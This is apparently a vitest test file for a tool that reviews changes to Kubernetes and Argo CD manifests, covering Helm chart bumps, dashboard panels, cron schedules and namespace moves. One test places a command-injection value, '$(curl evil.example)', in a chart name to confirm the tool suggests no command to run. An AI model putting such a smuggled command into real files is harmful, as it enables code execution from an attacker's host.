import { expect, test } from 'vitest'
import { inputOf, review } from '../review.ts'
import { asText } from './text.ts'

const chart = (version: string, name = 'keda', repository = 'https://charts.example') =>
  `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a, namespace: argocd}\nspec: {source: {repoURL: ${JSON.stringify(repository)}, chart: ${JSON.stringify(name)}, targetRevision: ${version}}}\n`
const told = (before: string, after: string) =>
  asText(review(inputOf(new Map([['a.yaml', before]]), new Map([['a.yaml', after]]))))

test.each([
  [
    'a chart of a repository',
    chart('1.0.0'),
    chart('1.1.0'),
    'helm template keda --repo https://charts.example --version 1.0.0 (and 1.1.0)',
  ],
  [
    'a chart of a registry',
    chart('1.0.0', 'keda', 'r.example/charts'),
    chart('1.1.0', 'keda', 'r.example/charts'),
    'helm template oci://r.example/charts/keda --version 1.0.0',
  ],
])('what to run for %s', (_, before, after, text) => {
  expect(told(before, after)).toContain(text)
})

test('a review says which panels of a dashboard change', () => {
  const board = (...panels: readonly string[]) =>
    `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: platform, labels: {grafana_dashboard: "1"}}\ndata: {a.json: '${JSON.stringify({ panels: panels.map((title) => ({ title })) })}'}\n`
  expect(told(board('Latency', 'Old'), board('Latency', 'New'))).toContain('new: "New"; gone: "Old"')
})

test('nobody is told to run what a change says', () => {
  const evil = '$(curl evil.example)'
  expect(told(chart('1.0.0', evil), chart('1.1.0', evil))).not.toContain('helm template')
})

test('words for people are one line, however many are wrapped anew', () => {
  const definition = (words: string) =>
    `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a.b}\nspec: {versions: [{name: v1, schema: {openAPIV3Schema: {properties: {${['a', 'b', 'c'].map((name) => `${name}: {type: object, description: ${words}}`).join(', ')}}}}}]}\n`
  const text = told(definition('one two'), definition('two one'))
  expect(text).toContain('CustomResourceDefinition descriptions\n')
  expect(text).not.toContain('properties')
})

const cron = (schedule: string) =>
  `apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a}\nspec: {schedule: "${schedule}", jobTemplate: {spec: {}}}\n`
test.each([
  ['a star for the minute', '0 3 * * *', '* 3 * * *', ', 1 to 60 times on a day that it names'],
  ['every hour', '0 3 * * *', '0 * * * *', ', 1 to 24 times on a day that it names'],
  ['another time of day', '0 3 * * *', '30 4 * * *', ''],
  ['what cron does not read', '0 3 * * *', '@hourly', ''],
])('a schedule with %s: how often it runs', (_, before, after, more) => {
  const text = told(cron(before), cron(after))
  expect(text).toContain(`it runs at other times: "${before}" to "${after}"${more}\n`)
})

test.each([
  [true, 'what is in shop is deleted at that sync (prune)'],
  [false, 'what is in shop runs on beside it'],
])('an Application goes to another namespace and prune is %s', (prune, more) => {
  const application = (namespace: string) =>
    `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a}\nspec: {source: {repoURL: r, path: a}, destination: {server: s, namespace: ${namespace}}, syncPolicy: {automated: {prune: ${prune}}}}\n`
  expect(told(application('shop'), application('store'))).toContain(more)
})
